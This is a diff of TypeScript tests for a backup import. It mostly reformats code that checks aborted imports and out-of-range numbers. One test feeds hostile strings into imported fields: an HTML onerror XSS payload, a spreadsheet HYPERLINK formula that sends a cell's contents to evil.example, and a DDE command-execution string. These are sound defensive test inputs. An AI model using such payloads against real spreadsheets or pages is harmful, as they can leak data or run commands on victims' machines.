@@ -56,7 +56,7 @@ async function expectRefused(file: unknown, why: RegExp) {
 describe('import aborted midway', () => {
   it('storage full at any point of the import: StoreError "quota", the store unchanged', async () => {
     const file = await sourceBackup();
-    const writes = await countWrites(async () => importBackup(await target(), file)) - (await countWrites(target));
+    const writes = (await countWrites(async () => importBackup(await target(), file))) - (await countWrites(target));
     expect(writes).toBeGreaterThan(20);
     // every write position up to 40, then every 7th
     for (let n = 1; n <= writes; n += n < 40 ? 1 : 7) {
@@ -78,7 +78,7 @@ describe('import aborted midway', () => {
     const whole = await target();
     await importBackup(whole, file);
     const after = await everything(whole);
-    const writes = await countWrites(async () => importBackup(await target(), file)) - (await countWrites(target));
+    const writes = (await countWrites(async () => importBackup(await target(), file))) - (await countWrites(target));
     for (const n of [1, 2, Math.floor(writes / 2), writes - 1, writes]) {
       const db = await target();
       const before = await everything(db);
@@ -166,14 +166,62 @@ describe('import of a bad file', () => {
   });
 
   it.each([
-    ['money beyond 10^13', (b: BackupV1) => { b.captures[0]!.readings[1]!.value = 1e14; }, /out of range for cny/],
-    ['a count of 2^53 + 2', (b: BackupV1) => { b.captures[0]!.readings[0]!.value = 2 ** 53 + 2; }, /out of range for count/],
-    ['a point of 1e300 viewers', (b: BackupV1) => { b.points[0]!.value = 1e300; }, /points\.0.*out of range/],
-    ['a negative point', (b: BackupV1) => { b.points[0]!.value = -5; }, /points\.0.*negative/],
-    ['a fractional count in latest', (b: BackupV1) => { b.sessions[0]!.latest.viewers!.value = 12.5; }, /whole number/],
-    ['a rate of 10,001 %', (b: BackupV1) => { b.captures[0]!.readings[4]!.value = 100.01; }, /out of range for ratio/],
-    ['a time beyond year 275760', (b: BackupV1) => { b.points[0]!.t = 1e16; }, /points\.0\.t/],
-    ['a time that is not an integer', (b: BackupV1) => { b.shops[0]!.lastSeen = T0 + 0.5; }, /shops\.0\.lastSeen/],
+    [
+      'money beyond 10^13',
+      (b: BackupV1) => {
+        b.captures[0]!.readings[1]!.value = 1e14;
+      },
+      /out of range for cny/,
+    ],
+    [
+      'a count of 2^53 + 2',
+      (b: BackupV1) => {
+        b.captures[0]!.readings[0]!.value = 2 ** 53 + 2;
+      },
+      /out of range for count/,
+    ],
+    [
+      'a point of 1e300 viewers',
+      (b: BackupV1) => {
+        b.points[0]!.value = 1e300;
+      },
+      /points\.0.*out of range/,
+    ],
+    [
+      'a negative point',
+      (b: BackupV1) => {
+        b.points[0]!.value = -5;
+      },
+      /points\.0.*negative/,
+    ],
+    [
+      'a fractional count in latest',
+      (b: BackupV1) => {
+        b.sessions[0]!.latest.viewers!.value = 12.5;
+      },
+      /whole number/,
+    ],
+    [
+      'a rate of 10,001 %',
+      (b: BackupV1) => {
+        b.captures[0]!.readings[4]!.value = 100.01;
+      },
+      /out of range for ratio/,
+    ],
+    [
+      'a time beyond year 275760',
+      (b: BackupV1) => {
+        b.points[0]!.t = 1e16;
+      },
+      /points\.0\.t/,
+    ],
+    [
+      'a time that is not an integer',
+      (b: BackupV1) => {
+        b.shops[0]!.lastSeen = T0 + 0.5;
+      },
+      /shops\.0\.lastSeen/,
+    ],
   ])('an impossible number (%s) is refused, nothing changed', async (_n, spoil, why) => {
     const b = JSON.parse(text) as BackupV1;
     spoil(b);
@@ -189,7 +237,7 @@ describe('import of a bad file', () => {
     const evil = [
       '<img src=x onerror="alert(1)">',
       '=HYPERLINK("http://evil.example/?"&A1,"点我")',
-      '+cmd|\' /C calc\'!A0',
+      "+cmd|' /C calc'!A0",
       '-2+3',
       '@SUM(1,1)',
       '\t=1+1',
@@ -199,9 +247,14 @@ describe('import of a bad file', () => {
     ];
     const b = JSON.parse(text) as BackupV1;
     b.shops[0]!.name = evil[0]!;
-    b.sessions.forEach((s, i) => { s.title = evil[i % evil.length]!; });
+    b.sessions.forEach((s, i) => {
+      s.title = evil[i % evil.length]!;
+    });
     b.captures.forEach((c, i) => {
-      c.readings.forEach((r, j) => { r.text = evil[(i + j) % evil.length]!; r.label = evil[(i + j + 1) % evil.length]!; });
+      c.readings.forEach((r, j) => {
+        r.text = evil[(i + j) % evil.length]!;
+        r.label = evil[(i + j + 1) % evil.length]!;
+      });
       c.unknown = evil.map((e) => ({ label: e, text: e }));
     });
     const db = freshDb();
